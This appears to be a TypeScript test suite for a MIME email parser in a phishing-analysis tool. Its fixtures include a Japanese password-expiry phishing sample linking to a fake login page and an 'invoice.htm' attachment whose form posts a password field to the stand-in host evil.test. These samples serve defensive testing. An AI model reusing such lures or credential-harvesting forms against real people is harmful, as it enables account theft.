import { readFileSync } from 'node:fs';
import { parseMessage } from '../../../src/core/parse/mime/parse-message.js';
import { DEFAULT_LIMITS } from '../../../src/core/deps.js';
import { SHARED } from '../../helpers/shared.js';

const enc = (s: string) => new TextEncoder().encode(s);
const latin1 = (b: Uint8Array) => String.fromCharCode(...b);

describe('parseMessage', () => {
  it('parses the phishing sample: addresses, subject, date, bodies, exact header bytes', async () => {
    const raw = new Uint8Array(readFileSync(`${SHARED}/samples/kagoya-phish.eml`));
    const m = await parseMessage(raw, DEFAULT_LIMITS);
    expect(m.from).toMatchObject({ address: 'support@kagoya.net', domain: 'kagoya.net', flags: ['name-contains-address'] });
    expect(m.to.map((a) => a.address)).toEqual(['info@example.jp']);
    expect(m.deliveredTo).toEqual(['info@example.jp']);
    expect(m.returnPath).toBe('support@kagoya.net');
    expect(m.subject).toBe('重要なexample.jp通知-72時間でのパスワードの有効期限');
    expect(m.messageId).toBe('<f90a3fe7-cf5a-33a9-4edd-08447dfcbadb@kagoya.net>');
    expect(m.date).toBe('2023-11-14T00:12:30Z');
    expect(m.html).toContain('kagoya-support-notification.azurefd.net');
    expect(m.text).toContain('https://kagoya-support-notification.azurefd.net/activemail/login');
    expect(m.warnings).toEqual([]);
    // header raw fields concatenate to exactly the header section
    expect(m.raw).toEqual(raw);
    const headerText = latin1(m.raw.subarray(0, m.bodyOffset));
    expect(m.headers.map((h) => h.raw).join('') + '\r\n').toBe(headerText);
    expect(m.headers.find((h) => h.key === 'subject')!.raw).toContain('\r\n =?utf-8?b?');
  });

  it('keeps small HTML attachments as text and only the size of binaries', async () => {
    const bin = 'A'.repeat(4000);
    const msg = [
      'From: a@b.test',
      'To: c@d.test',
      'Subject: x',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'hello',
      '--b1',
      'Content-Type: text/html; name="invoice.htm"',
      'Content-Disposition: attachment; filename="invoice.htm"',
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from('<form action="https://evil.test/p"><input name=pw></form>').toString('base64'),
      '--b1',
      'Content-Type: application/octet-stream',
      'Content-Disposition: attachment; filename="a.bin"',
      'Content-Transfer-Encoding: base64',
      '',
      bin,
      '--b1--',
      '',
    ].join('\n');
    const m = await parseMessage(enc(msg), DEFAULT_LIMITS);
    expect(m.text.trim()).toBe('hello');
    expect(m.attachments).toEqual([
      { filename: 'invoice.htm', mimeType: 'text/html', size: 57, text: '<form action="https://evil.test/p"><input name=pw></form>' },
      { filename: 'a.bin', mimeType: 'application/octet-stream', size: 3000, text: null },
    ]);
  });

  it('never throws on broken input and reports limits', async () => {
    const nested = ['From: a@b.test', 'Content-Type: multipart/mixed; boundary="b0"', ''];
    for (let i = 0; i < 30; i++) nested.push(`--b${i}`, `Content-Type: multipart/mixed; boundary="b${i + 1}"`, '');
    const cases = [
      new Uint8Array(0),
      enc('no headers at all'),
      enc('From: a@b.test\r\nContent-Type: text/plain; charset=x-bogus\r\n\r\n\u0000\u0000body'),
      enc(
        'From: a@b.test\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0b',
      ),
      enc(nested.join('\r\n')),
    ];
    for (const c of cases) {
      const m = await parseMessage(c, DEFAULT_LIMITS);
      expect(Array.isArray(m.headers)).toBe(true);
    }
    const deep = await parseMessage(enc(nested.join('\r\n')), { ...DEFAULT_LIMITS, maxMimeDepth: 5 });
    expect(deep.warnings.some((w) => w.startsWith('mime:'))).toBe(true);
    const long = await parseMessage(enc('From: a@b.test\r\n\r\n' + 'x'.repeat(5000)), { ...DEFAULT_LIMITS, maxBodyChars: 100 });
    expect(long.text).toHaveLength(100);
    expect(long.warnings).toHaveLength(1);
    expect(long.warnings[0]).toMatch(/^body-limit: text body is 500\d characters, truncated to 100$/);
  });

  it('normalizes bare LF and CR to CRLF and points bodyOffset at the body', async () => {
    const m = await parseMessage(enc('From: a@b.test\nSubject: s\n folded\r\rbody\nline'), DEFAULT_LIMITS);
    expect(latin1(m.raw)).toBe('From: a@b.test\r\nSubject: s\r\n folded\r\n\r\nbody\r\nline');
    expect(latin1(m.raw.subarray(m.bodyOffset))).toBe('body\r\nline');
    expect(m.subject).toBe('s folded');
  });

  it('handles multiple From addresses and groups', async () => {
    const m = await parseMessage(enc('From: a@b.test, c@d.test\r\nTo: list:;\r\nReply-To: <r@e.test>\r\n\r\n'), DEFAULT_LIMITS);
    expect(m.fromAll.map((a) => a.address)).toEqual(['a@b.test', 'c@d.test']);
    expect(m.from!.address).toBe('a@b.test');
    expect(m.to).toEqual([]);
    expect(m.replyTo[0]!.address).toBe('r@e.test');
  });
});
